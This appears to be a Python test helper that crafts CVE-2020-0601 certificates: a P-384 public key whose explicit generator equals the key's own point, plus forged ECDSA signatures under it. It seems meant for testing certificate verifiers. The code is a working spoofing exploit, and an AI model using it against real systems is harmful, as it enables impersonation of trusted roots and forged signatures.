"""CVE-2020-0601: a certificate that carries a known public point with a generator under which its private key is 1.

A verifier that compares only the point accepts the root as genuine, and checks signatures on the attacker's curve.
"""

from __future__ import annotations

import hashlib

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.minting.asn1 import BIT_STRING, INTEGER, OCTET_STRING, SEQUENCE, tlv
from tests.minting.certificates import P384_ORDER

_FIELD = 2**384 - 2**128 - 2**96 + 2**32 - 1
_B = 0xB3312FA7E23EE7E4988E056BE3F82D19181D9C6EFE8141120314088F5013875AC656398D8A2ED19D2A85C8EDD3EC2AEF
_EC_KEY = bytes.fromhex("06072a8648ce3d0201")
_PRIME_FIELD = bytes.fromhex("06072a8648ce3d0101")
_NONCE = 7  # the key is 1: there is nothing for a nonce to protect

Point = tuple[int, int]


def spelled_out(key: ec.EllipticCurvePublicKey) -> bytes:
    """Return a SubjectPublicKeyInfo of `key` on P-384 whose generator is the key's own point."""
    point = _point(key)
    field = tlv(SEQUENCE, _PRIME_FIELD + tlv(INTEGER, b"\x00" + _FIELD.to_bytes(48)))
    curve = tlv(SEQUENCE, tlv(OCTET_STRING, (_FIELD - 3).to_bytes(48)) + tlv(OCTET_STRING, _B.to_bytes(48)))
    order, one = tlv(INTEGER, b"\x00" + P384_ORDER.to_bytes(48)), tlv(INTEGER, b"\x01")
    parameters = tlv(SEQUENCE, one + field + curve + tlv(OCTET_STRING, point) + order + one)
    return tlv(SEQUENCE, tlv(SEQUENCE, _EC_KEY + parameters) + tlv(BIT_STRING, b"\x00" + point))


def _point(key: ec.EllipticCurvePublicKey) -> bytes:
    return key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)


def signed_under_it(key: ec.EllipticCurvePublicKey, message: bytes) -> bytes:
    """Return a signature (ECDSA, SHA-384) by `key` under `spelled_out`'s generator, as an attacker can compute it."""
    numbers = key.public_numbers()
    r = _times(_NONCE, (numbers.x, numbers.y))[0] % P384_ORDER
    digest = int.from_bytes(hashlib.sha384(message).digest())
    return encode_dss_signature(r, pow(_NONCE, -1, P384_ORDER) * (digest + r) % P384_ORDER)


def _times(count: int, point: Point) -> Point:
    found = point
    for digit in bin(count)[3:]:
        found = _sum(found, found)
        if digit == "1":
            found = _sum(found, point)
    return found


def _sum(one: Point, other: Point) -> Point:
    """Add two points that are neither opposite nor at infinity."""
    if one == other:
        slope = 3 * (one[0] ** 2 - 1) * pow(2 * one[1], -1, _FIELD)  # a is -3
    else:
        slope = (one[1] - other[1]) * pow(one[0] - other[0], -1, _FIELD)
    x = (slope**2 - one[0] - other[0]) % _FIELD
    return x, (slope * (one[0] - x) - one[1]) % _FIELD
